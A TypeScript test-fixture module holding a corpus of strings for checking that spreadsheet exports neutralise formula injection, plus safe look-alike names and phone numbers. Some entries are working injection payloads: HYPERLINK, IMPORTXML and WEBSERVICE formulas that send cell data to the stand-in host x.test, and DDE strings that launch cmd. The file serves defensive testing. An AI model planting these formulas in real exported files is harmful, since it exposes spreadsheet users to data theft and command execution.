/** The corpus that every export is tested with: texts people, and people of ill will, put into names. */

const FORMULAS = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://x.test?"&A1,"ver")',
  'IMPORTXML(CONCAT("http://x.test/?v=",A1),"//a")',
  'WEBSERVICE("http://x.test/"&A2)',
  "cmd|' /C calc'!A0",
  "MSEXCEL|'\\..\\..\\x.exe'!''",
  'DDE("cmd";"/C calc";"x")',
  '2+3',
  'A1',
  '"texto"',
  '',
]
const SIGNS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\u2212', '\ufe62', '\ufe63', '\ufe66', '\ufe6b']
const BEFORE = [
  '',
  ' ',
  '   ',
  '\u00a0',
  '\u3000',
  '\ufeff',
  '\u200b',
  '\u200d',
  '\u2060',
  '\u00ad',
  '\u202e',
  ' \u200b ',
  '\u0000',
]

const everySign = SIGNS.flatMap(sign => FORMULAS.map(formula => `${sign}${formula}`)).filter(text => text.length > 0)
const hidden = BEFORE.flatMap(before => ['=1+1', '@SUM(A1)', '-2+3'].map(formula => `${before}${formula}`))
const control = ['\t=1', '\tnome', '\r=1', '\rnome', '\n=1', '\nnome', '\u0000=1', '\u0000nome']
/** They look like phones, and would be reckoned. */
const almostPhones = [
  '+1-2-3-4567',
  '+55-11',
  '-5511987654321',
  '+55 11',
  '+(55)11987654321',
  '+5511987654321+1',
  '+55 11 98765-4321=1',
  '+0511987654321',
  '-2',
  '--',
  '+',
]

export const LIVE_TEXTS: readonly string[] = [...new Set([...everySign, ...hidden, ...control, ...almostPhones])]

export const SAFE_TEXTS: readonly string[] = [
  '',
  'Maria',
  'Maria-José',
  'a=b',
  'ana@casa.test',
  '1+1',
  '10 - 20',
  '(=1)',
  '"=1+1"',
  '“=1”',
  "D'Ávila",
  "'Maria",
  '“-”',
  '–',
  '— obs',
  '#REF!',
  '%=1',
  '|cmd',
  '\\=1',
  '*',
  '5511987654321',
  '+5511987654321',
  '+55 11 98765-4321',
  '+55 11 8765-4321',
  '+55 11 987654321',
  '+55 (11) 98765-4321',
  '+1 415 555-2671',
  '+351 912 345 678',
  '+54 9 11 2345 6789',
  '+44 20 7946 0958',
  '+49 1512 3456789',
  '1/2',
  '31/01/1990',
  '12.ABC.345/01DE-35',
  '482.116.907-30',
  'Ação; "aspas", vírgula',
  'duas\nlinhas\n=1',
  '日本語',
  'Ωμέγα',
  'Łódź',
  '😀',
]
